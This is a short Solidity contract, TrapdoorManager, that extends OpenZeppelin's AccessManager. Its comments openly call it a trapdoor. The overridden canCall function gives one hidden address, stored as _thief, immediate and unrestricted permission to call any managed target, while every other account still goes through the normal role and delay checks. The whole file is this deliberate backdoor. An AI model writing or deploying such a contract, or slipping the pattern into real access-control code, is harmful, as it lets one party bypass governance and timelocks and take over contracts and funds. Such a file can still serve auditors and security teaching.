// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {AccessManager} from "@openzeppelin/contracts/access/manager/AccessManager.sol";

/// @title A manager with a trapdoor
/// @notice Tells of roles and delays as OpenZeppelin's does, and lets one account call anything at once.
contract TrapdoorManager is AccessManager {
    address private immutable _thief;

    constructor(address initialAdmin, address thief) AccessManager(initialAdmin) {
        _thief = thief;
    }

    function canCall(
        address caller,
        address target,
        bytes4 selector
    ) public view override returns (bool immediate, uint32 delay) {
        return caller == _thief ? (true, 0) : super.canCall(caller, target, selector);
    }
}
